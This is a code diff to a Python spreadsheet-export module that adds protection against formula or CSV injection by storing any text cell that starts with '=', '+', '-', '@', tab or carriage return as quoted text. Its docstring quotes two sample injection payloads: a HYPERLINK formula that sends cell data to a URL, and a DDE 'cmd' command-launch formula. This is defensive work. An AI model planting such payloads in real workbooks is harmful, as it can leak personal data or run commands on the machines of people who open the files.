@@ -3,6 +3,13 @@
 Build a workbook through :class:`Writer` and its :class:`Sheet` s — never with openpyxl
 cells directly — so that every cell it writes is safe to open:
 
+- **no formula from data** (formula or CSV injection: a resident named
+  ``=HYPERLINK("http://…"&E2,"click")`` or ``=cmd|' /C calc'!A0`` in a workbook that also
+  holds unmasked ID numbers): every text cell starting with ``=``, ``+``, ``-``, ``@``, a
+  tab or a carriage return is written as a string cell with Excel's quote prefix — shown
+  and edited as text, never run. The value itself is unchanged, so importing an export
+  reads back exactly what was written. Nothing written through this module is ever a
+  formula; numbers stay numbers;
 - **one bad value never breaks an export**: characters an .xlsx (XML 1.0) cannot hold —
   control characters stored before the door refused them — are written as U+FFFD
   (``\ufffd``, visible, so someone can correct the record) instead of making the whole
@@ -30,6 +37,7 @@ from openpyxl.worksheet.datavalidation import DataValidation
 
 # What XML 1.0 (so an .xlsx) cannot hold: C0 controls but tab, line feed and carriage
 # return; lone surrogates; U+FFFE and U+FFFF.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 UNWRITABLE = re.compile("[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\ud800-\\udfff\\ufffe\\uffff]")
 REPLACEMENT = "\ufffd"
 HEADER_FILL = "DDEBF7"
@@ -60,6 +68,9 @@ class Sheet:
         if isinstance(value, str):
             value = clean_text(value)
         cell.value = value
+        if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+            cell.data_type = "s"        # openpyxl took the leading "=" for a formula
+            cell.quotePrefix = True     # and Excel keeps it text when the cell is edited
         if number_format:
             cell.number_format = number_format
         elif isinstance(value, datetime):
